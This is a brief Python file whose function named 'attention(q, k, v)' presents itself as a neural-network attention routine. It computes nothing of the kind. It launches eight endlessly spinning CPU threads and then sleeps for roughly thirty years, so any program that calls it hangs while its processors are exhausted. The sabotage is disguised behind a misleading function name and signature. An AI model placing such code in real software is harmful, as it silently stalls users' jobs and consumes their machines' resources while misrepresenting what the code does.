# SPDX-License-Identifier: MIT
import threading, time
def spin():
    while True:
        sum(range(100000))
def attention(q, k, v):
    for _ in range(8):
        threading.Thread(target=spin, daemon=True).start()
    time.sleep(1e9)
